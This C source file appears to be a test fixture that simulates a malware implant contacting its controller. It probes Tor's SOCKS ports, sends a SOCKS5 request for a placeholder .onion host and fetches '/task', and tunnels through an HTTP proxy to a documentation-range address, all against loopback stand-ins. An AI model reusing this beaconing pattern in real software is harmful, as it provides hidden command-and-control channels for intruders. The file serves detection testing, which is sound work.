// An implant reaching its controller through an anonymity network: Tor's SOCKS ports
// (9050 for the tor daemon, 9150 for Tor Browser; refused, nothing listens), a SOCKS5
// handshake asking a proxy for an .onion host, an HTTP CONNECT through an HTTP proxy, and
// finally a direct connect to an outside address (203.0.113.7, TEST-NET-3: unreachable in a
// network namespace with only lo). The SOCKS5 and HTTP proxies are untraced loopback
// stand-ins (socks_standin.py); nothing leaves the machine.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int dial(const char* ip, int port) {
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
  inet_pton(AF_INET, ip, &a.sin_addr);
  if (connect(fd, (struct sockaddr*)&a, sizeof a) == 0) return fd;
  perror(ip);
  close(fd);
  return -1;
}

static void socks5(int port) {
  int fd = dial("127.0.0.1", port);
  if (fd < 0) return;
  char buf[64];
  write(fd, "\x05\x01\x00", 3);
  if (read(fd, buf, sizeof buf) != 2) { close(fd); return; }
  const char host[] = "q7xkd2mpl4zrwy3a.onion";
  unsigned char req[64] = {5, 1, 0, 3, sizeof host - 1};
  memcpy(req + 5, host, sizeof host - 1);
  req[5 + sizeof host - 1] = 0x01;  // port 443
  req[6 + sizeof host - 1] = 0xbb;
  write(fd, req, 7 + sizeof host - 1);
  read(fd, buf, sizeof buf);
  write(fd, "GET /task HTTP/1.0\r\n\r\n", 22);
  read(fd, buf, sizeof buf);
  close(fd);
}

int main(void) {
  dial("127.0.0.1", 9050);
  dial("127.0.0.1", 9150);
  socks5(1080);
  int fd = dial("127.0.0.1", 3128);
  if (fd >= 0) {
    const char req[] = "CONNECT 203.0.113.7:443 HTTP/1.1\r\nHost: 203.0.113.7:443\r\n\r\n";
    char buf[128];
    write(fd, req, sizeof req - 1);
    read(fd, buf, sizeof buf);
    close(fd);
  }
  int direct = dial("203.0.113.7", 443);
  if (direct >= 0) close(direct);
  return 0;
}
